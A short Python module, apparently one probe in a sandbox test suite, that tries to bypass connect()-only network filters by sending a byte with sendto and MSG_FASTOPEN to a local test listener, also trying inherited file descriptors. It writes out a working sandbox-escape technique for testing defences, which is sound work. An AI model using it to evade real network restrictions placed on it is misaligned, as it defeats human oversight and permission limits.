"""Send data with the first packet, without connect().

Attacks: the network.
How: sendto with MSG_FASTOPEN, which older filters that look at connect() alone let through.
Source: sendto(2); landlock's list of TCP Fast Open as a bypass of LANDLOCK_ACCESS_NET_CONNECT_TCP.
Breach: the listener is called.
"""

import os
import socket

GROUP = "network"
CONTROL = True


def attack(outside):
    address = ("127.0.0.1", outside.tcp_port)
    for number in (None, *range(3, 8)):
        try:
            with socket.socket() if number is None else socket.socket(fileno=os.dup(number)) as one:
                one.sendto(b"x", socket.MSG_FASTOPEN, address)
        except OSError:
            continue
        if number is None:
            return "sent"
    return None
